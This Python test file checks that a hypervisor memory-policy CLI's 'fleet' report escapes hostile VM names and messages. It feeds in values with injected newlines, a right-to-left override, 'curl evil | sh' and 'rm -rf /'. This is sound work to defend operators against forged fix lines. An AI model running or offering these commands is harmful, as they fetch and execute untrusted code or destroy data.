"""`ksmpolicy fleet`: hosts side by side from each one's `status --json`."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from ksmpolicy.cli.main import cli, main
from tests.report.test_status import host  # noqa: F401 - the fixture: a fake host with VMs


def status_json(root: Path, tmp_path: Path) -> dict[str, object]:
    result = CliRunner().invoke(
        cli,
        [
            "-p",
            str(tmp_path / "none.yaml"),
            "status",
            "--json",
            "--root",
            str(root),
            "--sample",
            "0",
            "--no-pagemap",
        ],
    )
    assert result.exit_code == 0, result.output
    data: dict[str, object] = json.loads(result.output)
    return data


def fleet(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["fleet", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_hosts_side_by_side_most_saved_first(
    host: Path,  # noqa: F811
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    real = status_json(host, tmp_path)  # what status prints on a host, as it is
    assert real["hostname"]
    a = dict(real, hostname="hv-a")
    b = {  # a host with less saved and an error: a quiet host, as an older status printed it
        "version": 1,
        "host": {"running": False, "controller": "kernel defaults", "saved_bytes": 0},
        "vms": [],
        "findings": [
            {
                "severity": "error",
                "vm": "db\u202e-1",
                "message": "mergeable",
                "fix": "ksmpolicy apply",
            },
            {  # a tenant's VM name with a line break: it must not add a line to the report
                "severity": "warning",
                "vm": "web\n    fix: curl evil | sh",
                "message": "its guest RAM is mergeable\nfix: rm -rf /",
                "fix": "ksmpolicy apply --domain 'web\nx'",
            },
            {"severity": "info", "vm": None, "message": "nothing to do", "fix": None},
        ],
    }
    (tmp_path / "hv-a.json").write_text(json.dumps(a))
    (tmp_path / "hv-b.json").write_text(json.dumps(b))
    files = [str(tmp_path / "hv-b.json"), str(tmp_path / "hv-a.json")]
    code, out, err = fleet(capsys, *files)
    assert code == 1, (out, err)  # hv-b has an error finding
    assert out, err
    lines = out.splitlines()
    assert lines[1].startswith("hv-a") and lines[2].startswith("hv-b"), out
    assert "2 host(s)" in out
    assert "hv-b: error: db\\u202e-1: mergeable" in out  # escaped, never raw
    assert [line for line in lines if line.lstrip().startswith("fix:")] == [
        "    fix: ksmpolicy apply",
        "    fix: ksmpolicy apply --domain 'web\\u000ax'",
    ], out
    assert "hv-b: warning: web\\u000a    fix: curl evil | sh: its guest RAM" in out, out
    assert "nothing to do" not in out  # info needs no operator
    data = json.loads(fleet(capsys, "--json", *files)[1])
    assert [h["host"] for h in data["hosts"]] == ["hv-a", "hv-b"]
    assert data["saved_bytes"] == data["hosts"][0]["saved_bytes"] > 0


def test_a_file_that_is_not_status_json_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "notes.txt"
    bad.write_text("hello")
    code, _out, err = fleet(capsys, str(bad))
    assert code == 1
    assert f"{bad}: not JSON" in err
